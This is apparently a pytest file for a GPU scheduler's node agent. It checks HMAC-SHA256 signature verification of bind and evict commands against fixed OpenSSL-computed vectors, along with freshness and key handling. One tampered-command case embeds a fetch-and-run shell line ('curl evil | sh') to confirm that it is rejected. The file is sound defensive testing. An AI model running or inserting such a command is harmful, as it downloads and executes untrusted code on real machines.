"""Command checks against FIXED HMAC-SHA256 vectors.

The hex digests below were computed once with OpenSSL, not with the code under test:
  printf 'gfs/node-command-key/v1\\000node-7' \\
      | openssl dgst -sha256 -hmac 'test-master-secret-0123456789abcdef'
  openssl dgst -sha256 -mac HMAC -macopt hexkey:<node key> evict.json   (EVICT_JSON below, no newline)
  openssl dgst -sha256 -mac HMAC -macopt hexkey:<node key> bind.json    (BIND_JSON below, no newline)
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID

import pytest

from gfs.schemas.commands import BindCommand, EvictCommand
from gfs.schemas.tasks import EvictionReason, Placement, TaskClass
from gfs.services.node_agent.security import CommandGuard, Rejection
from gfs.services.node_agent.settings import MissingKeyError, NodeAgentSettings
from gfs.services.platform.signing import node_key, signing_bytes

MASTER = b"test-master-secret-0123456789abcdef"
NODE_7_KEY_HEX = "a67ecd9337af70a670bfbe4f9f075f81900fdf8cfa3b05e3374128b2dcecf793"
NODE_8_KEY_HEX = "b7cb73ac28f01832c108b07e5f6aebc337862eb1f54d5bc4841ea896e94fc403"
EVICT_SIGNATURE = "3fb8bc027c8c065fd546425d54356ceb9584f82f88e910fa2391e224d57446f2"
BIND_SIGNATURE = "6319194452c42baa22cad8686ce27ddb8529f60859ca72090a3c7cb2933ee9c7"
T0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)

EVICT_JSON = (
    b'{"command_id":"00000000-0000-4000-8000-0000000000e1","node":"node-7","task_ids":["job-1"],'
    b'"reason":"PREEMPTED_BY_HP","grace_seconds":2.0,"preemptor_task_id":"job-hp",'
    b'"issued_at":"2026-03-01T12:00:00Z","signature":""}'
)
BIND_JSON = (
    b'{"command_id":"00000000-0000-4000-8000-0000000000b1","node":"node-7","task_id":"job-1",'
    b'"task_class":"SPOT","placements":[{"worker_index":0,"node":"node-7","gpu_indices":[2,3],'
    b'"gpu_fraction":1.0}],"command":["python","train.py"],"checkpoint_interval_s":60.0,'
    b'"issued_at":"2026-03-01T12:00:00Z","signature":""}'
)


def evict_command(signature: str = EVICT_SIGNATURE, **changes: Any) -> EvictCommand:
    fields: dict[str, Any] = {
        "command_id": UUID("00000000-0000-4000-8000-0000000000e1"),
        "node": "node-7",
        "task_ids": ("job-1",),
        "reason": EvictionReason.PREEMPTED_BY_HP,
        "grace_seconds": 2.0,
        "preemptor_task_id": "job-hp",
        "issued_at": T0,
        "signature": signature,
    }
    return EvictCommand(**(fields | changes))


def bind_command(signature: str = BIND_SIGNATURE, **changes: Any) -> BindCommand:
    fields: dict[str, Any] = {
        "command_id": UUID("00000000-0000-4000-8000-0000000000b1"),
        "node": "node-7",
        "task_id": "job-1",
        "task_class": TaskClass.SPOT,
        "placements": (Placement(worker_index=0, node="node-7", gpu_indices=(2, 3)),),
        "command": ("python", "train.py"),
        "checkpoint_interval_s": 60.0,
        "issued_at": T0,
        "signature": signature,
    }
    return BindCommand(**(fields | changes))


def guard(node: str = "node-7", key_hex: str = NODE_7_KEY_HEX) -> CommandGuard:
    return CommandGuard(
        node=node,
        key=bytes.fromhex(key_hex),
        max_age=timedelta(seconds=300),
        clock_skew=timedelta(seconds=30),
    )


NOW = T0 + timedelta(seconds=1)


def test_node_key_matches_the_openssl_vector() -> None:
    assert node_key(MASTER, "node-7").hex() == NODE_7_KEY_HEX
    assert node_key(MASTER, "node-8").hex() == NODE_8_KEY_HEX


def test_the_fixed_commands_encode_to_the_hand_written_json() -> None:
    # The vectors sign these exact bytes; if the encoding drifted the vectors would be meaningless.
    assert signing_bytes(evict_command()) == EVICT_JSON
    assert signing_bytes(bind_command()) == BIND_JSON


def test_commands_carrying_the_openssl_signatures_are_accepted() -> None:
    assert guard().check(evict_command(), NOW) is None
    assert guard().check(bind_command(), NOW) is None


@pytest.mark.parametrize(
    "command",
    [
        evict_command(grace_seconds=0.0),  # tampered: no grace for the victim
        evict_command(task_ids=("job-1", "job-2")),  # tampered: one more victim
        bind_command(placements=(Placement(worker_index=0, node="node-7", gpu_indices=(0, 1)),)),
        bind_command(command=("sh", "-c", "curl evil | sh")),
        bind_command(issued_at=T0 + timedelta(seconds=1)),  # refreshed timestamp, old signature
    ],
)
def test_tampered_commands_are_rejected_as_a_signature_mismatch(command: BindCommand | EvictCommand) -> None:
    assert guard().check(command, NOW) is Rejection.SIGNATURE_MISMATCH


def test_a_command_signed_with_another_nodes_key_is_forged_here() -> None:
    # Node 8's agent holds node 8's key: node 7's valid command does not verify there, even when
    # re-addressed to node 8 (its signature then no longer matches anything).
    assert (
        guard("node-8", NODE_8_KEY_HEX).check(evict_command(node="node-8"), NOW)
        is Rejection.SIGNATURE_MISMATCH
    )
    forged = evict_command(signature="0123456789abcdef" * 4)
    assert guard().check(forged, NOW) is Rejection.SIGNATURE_MISMATCH


def test_unsigned_and_malformed_signatures_are_rejected() -> None:
    assert guard().check(evict_command(signature=""), NOW) is Rejection.UNSIGNED
    assert (
        guard().check(evict_command(signature=EVICT_SIGNATURE.upper()), NOW) is Rejection.MALFORMED_SIGNATURE
    )
    assert guard().check(evict_command(signature=EVICT_SIGNATURE[:-2]), NOW) is Rejection.MALFORMED_SIGNATURE


def test_a_command_for_another_node_is_rejected_before_its_signature() -> None:
    assert guard("node-8", NODE_8_KEY_HEX).check(evict_command(), NOW) is Rejection.WRONG_NODE


def test_freshness_uses_the_signed_issued_at() -> None:
    g = guard()
    assert g.check(evict_command(), T0 + timedelta(seconds=300)) is None
    assert g.check(evict_command(), T0 + timedelta(seconds=300.001)) is Rejection.STALE
    assert g.check(evict_command(), T0 - timedelta(seconds=30)) is None
    assert g.check(evict_command(), T0 - timedelta(seconds=31)) is Rejection.FUTURE
    # A forged and stale command counts as forged: the signature is checked first.
    assert g.check(evict_command(signature="ab" * 32), T0 + timedelta(days=7)) is Rejection.SIGNATURE_MISMATCH
    assert "300" in g.explain(evict_command(), Rejection.STALE, T0 + timedelta(days=1))


def test_settings_derive_or_take_the_node_key(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("GFS_NODE_KEY", "GFS_COMMAND_SECRET"):
        monkeypatch.delenv(name, raising=False)
    with pytest.raises(MissingKeyError, match="GFS_NODE_KEY"):
        NodeAgentSettings().command_key("node-7")
    monkeypatch.setenv("GFS_COMMAND_SECRET", MASTER.decode())
    assert NodeAgentSettings().command_key("node-7").hex() == NODE_7_KEY_HEX
    monkeypatch.setenv("GFS_NODE_KEY", NODE_8_KEY_HEX)  # the node's own key wins over the master
    assert NodeAgentSettings().command_key("node-8").hex() == NODE_8_KEY_HEX
    monkeypatch.setenv("GFS_NODE_KEY", "not hex")
    with pytest.raises(MissingKeyError, match="hex"):
        NodeAgentSettings().command_key("node-8")
    monkeypatch.setenv("GFS_NODE_KEY", "")
    monkeypatch.setenv("GFS_COMMAND_SECRET", "short")
    with pytest.raises(MissingKeyError, match="16 bytes"):
        NodeAgentSettings().command_key("node-7")


# A bind with the restart overhead set (a field added after v1: left out of the signed bytes only
# while unset). Digest computed with OpenSSL over BIND_OVERHEAD_JSON (no newline):
#   openssl dgst -sha256 -mac HMAC -macopt hexkey:<node-7 key> bind2.json
BIND_OVERHEAD_JSON = (
    b'{"command_id":"00000000-0000-4000-8000-0000000000b1","node":"node-7","task_id":"job-1",'
    b'"task_class":"SPOT","placements":[{"worker_index":0,"node":"node-7","gpu_indices":[2,3],'
    b'"gpu_fraction":1.0}],"command":["python","train.py"],"checkpoint_interval_s":60.0,'
    b'"restart_overhead_s":40.0,"issued_at":"2026-03-01T12:00:00Z","signature":""}'
)
BIND_OVERHEAD_SIGNATURE = "cd4ffda28bf9ef18977254252c669cfbd16b0433c52d1db58309a0ef95cee416"


def test_a_bind_with_a_restart_overhead_signs_with_the_field_and_the_openssl_vector() -> None:
    command = bind_command(BIND_OVERHEAD_SIGNATURE, restart_overhead_s=40.0)
    assert signing_bytes(command) == BIND_OVERHEAD_JSON
    assert guard().check(command, NOW) is None
    # The same command without the overhead no longer matches that signature.
    assert guard().check(bind_command(BIND_OVERHEAD_SIGNATURE), NOW) is Rejection.SIGNATURE_MISMATCH
